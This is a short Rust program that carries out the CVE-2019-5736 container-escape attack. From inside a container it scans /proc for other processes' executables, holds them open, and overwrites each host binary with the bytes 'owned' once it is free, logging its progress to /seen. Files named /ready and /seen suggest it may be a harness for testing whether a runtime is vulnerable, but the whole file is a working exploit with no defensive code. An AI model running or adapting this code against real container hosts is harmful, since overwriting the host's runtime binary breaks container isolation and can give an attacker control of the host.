//! The attack of CVE-2019-5736 from inside a container: open every foreign binary that shows up as
//! some process's executable, keep it open, and write to it as soon as nobody runs it.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::PathBuf;
use std::process::ExitCode;

/// How many binaries are kept open at once.
const KEPT: usize = 64;

/// Attack until killed; what was seen and what could be written goes to /seen.
pub fn run() -> ExitCode {
    let Ok(mut seen) = OpenOptions::new().create(true).append(true).open("/seen") else {
        return ExitCode::FAILURE;
    };
    if fs::write("/ready", "ready").is_err() {
        return ExitCode::FAILURE;
    }
    let mut kept: Vec<(File, PathBuf)> = Vec::new();
    loop {
        for file in executables() {
            let Ok(target) = fs::read_link(own_fd(&file)) else { continue };
            if !target.starts_with("/bin") && kept.len() < KEPT {
                // Only a note: the attack goes on without it.
                let _ = writeln!(seen, "saw {}", target.display());
                kept.push((file, target));
            }
        }
        kept.retain(|(file, target)| {
            let wrote = OpenOptions::new()
                .write(true)
                .open(own_fd(file))
                .and_then(|mut binary| binary.write_all(b"owned"));
            if wrote.is_ok() {
                let _ = writeln!(seen, "wrote {}", target.display());
            }
            wrote.is_err()
        });
    }
}

fn own_fd(file: &File) -> String {
    format!("/proc/self/fd/{}", file.as_raw_fd())
}

/// The executables of all other processes that may be opened.
fn executables() -> Vec<File> {
    let own = std::process::id();
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    entries
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| *pid != own)
        .filter_map(|pid| File::open(format!("/proc/{pid}/exe")).ok())
        .collect()
}
